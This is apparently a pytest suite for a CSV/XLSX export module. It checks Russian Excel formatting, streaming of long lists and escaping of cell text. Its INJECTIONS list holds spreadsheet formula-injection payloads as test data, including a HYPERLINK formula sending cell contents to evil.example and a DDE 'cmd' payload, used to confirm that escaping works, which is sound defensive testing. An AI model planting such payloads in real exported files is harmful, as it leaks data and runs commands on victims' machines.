"""Sheets as files: what Excel and programs read of them, and that no text of ours is ever a formula."""

from collections.abc import Iterator
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from application.exporting import Cell, Column, Sheet, SheetKind
from infrastructure.exports import write_sheet
from infrastructure.exports.delimited import FORMULA, harmless
from infrastructure.exports.workbook import LONGEST_TEXT
from tests.exports_read import Rows, csv_rows, xlsx_rows

DAY = date(2026, 3, 2)
INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"нажмите")',
    "+7 (911) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\ufeff=1+1",
)


def sheet(*rows: tuple[Cell, ...], columns: int = 0) -> Sheet:
    width = columns or max((len(row) for row in rows), default=1)
    return Sheet("Реестр", tuple(Column(f"Графа {n}") for n in range(width)), iter(rows), DAY, 120)


def written(made: Sheet, kind: SheetKind) -> bytes:
    return b"".join(write_sheet(made, kind))


def read(content: bytes, kind: SheetKind) -> Rows:
    return csv_rows(content) if kind is SheetKind.CSV else xlsx_rows(content)


@pytest.mark.parametrize("kind", SheetKind)
def test_a_file_says_what_it_is_as_of_when_and_by_which_record(kind: SheetKind) -> None:
    rows = read(written(sheet(("а", "б")), kind), kind)
    assert rows[0][0] == "Реестр. По состоянию на 02.03.2026, запись журнала 120"
    assert rows[1] == ["Графа 0", "Графа 1"]
    assert rows[2] == ["а", "б"]


def test_csv_is_what_the_russian_excel_opens() -> None:
    content = written(
        sheet((date(2026, 5, 9), datetime(2026, 5, 9, 21, 30, tzinfo=UTC), 7, None, "да; нет")), SheetKind.CSV
    )
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.split(b"\r\n")[2].decode() == '09.05.2026;10.05.2026 00:30:00;7;;"да; нет"'


def test_xlsx_holds_real_dates_and_numbers() -> None:
    content = written(sheet((date(2026, 5, 9), datetime(2026, 5, 9, 21, 30, tzinfo=UTC), 7, "007")), SheetKind.XLSX)
    assert xlsx_rows(content)[2] == [datetime(2026, 5, 9), datetime(2026, 5, 10, 0, 30), 7, "007"]  # noqa: DTZ001


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_becomes_a_formula(text: str) -> None:
    (said,) = csv_rows(written(sheet((text,)), SheetKind.CSV))[2]
    assert str(said).startswith("'")
    assert str(said)[1:].strip() == text.strip()
    xlsx_rows(written(sheet((text,)), SheetKind.XLSX))  # fails on a formula


@given(st.text(max_size=40))
def test_whatever_people_write_stays_text_and_in_its_cell(text: str) -> None:
    said = harmless(text)
    assert not FORMULA.match(said)
    rows = csv_rows(written(sheet((text, "сосед")), SheetKind.CSV))
    assert len(rows) == 3
    assert rows[2][1] == "сосед"


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    (cell,) = xlsx_rows(written(sheet(("я" * 40_000,)), SheetKind.XLSX))[2]
    assert len(str(cell)) == LONGEST_TEXT
    assert str(cell).endswith("…")


def test_a_long_list_is_written_while_it_is_read() -> None:
    asked = 0

    def rows() -> Iterator[tuple[Cell, ...]]:
        nonlocal asked
        for asked in range(1, 20_001):
            yield (asked, "мероприятие " * 5)

    made = Sheet("Реестр", (Column("Номер"), Column("Текст")), rows(), DAY, 1)
    pieces = write_sheet(made, SheetKind.CSV)
    next(pieces)
    assert asked < 2_000
    assert len(csv_rows(b"".join(write_sheet(made, SheetKind.CSV)))) > 15_000
